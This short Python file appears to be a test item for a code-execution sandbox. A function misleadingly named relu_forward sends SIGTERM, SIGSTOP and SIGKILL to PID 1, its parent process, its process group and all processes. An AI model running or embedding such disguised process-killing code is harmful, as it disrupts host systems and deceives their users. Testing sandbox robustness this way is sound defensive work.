"""Sends signals to everything it can see: the sandbox's first process, its parent, all groups.

relu_forward: crashed or error, 0
"""

# %%
import os
import signal


def relu_forward(x):
    for target in (1, os.getppid(), -1, 0):
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass
    raise LookupError("nobody to end")
